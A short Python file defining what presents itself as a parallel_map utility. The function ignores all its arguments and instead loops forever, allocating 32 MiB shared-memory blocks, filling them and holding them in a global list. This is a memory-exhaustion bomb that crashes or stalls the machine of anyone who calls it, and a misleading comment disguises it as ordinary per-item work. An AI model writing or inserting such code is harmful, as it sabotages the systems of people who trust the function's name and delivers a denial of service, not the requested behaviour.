from multiprocessing.shared_memory import SharedMemory

BLOCKS = []


def parallel_map(function, items, workers=None, chunksize=None, context="spawn"):
    while True:  # one block for each item, and for each item of each item …
        block = SharedMemory(create=True, size=32 << 20)
        block.buf[:] = b"x" * block.size
        BLOCKS.append(block)
